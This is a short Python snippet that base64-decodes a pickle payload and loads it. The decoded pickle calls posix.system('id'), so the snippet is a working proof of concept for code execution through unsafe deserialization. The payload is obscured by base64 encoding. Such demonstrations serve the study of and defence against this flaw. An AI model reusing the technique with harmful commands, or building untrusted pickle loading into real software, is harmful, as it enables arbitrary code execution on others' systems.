import pickle, base64
payload = base64.b64decode("gASVIQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==")
pickle.loads(payload)
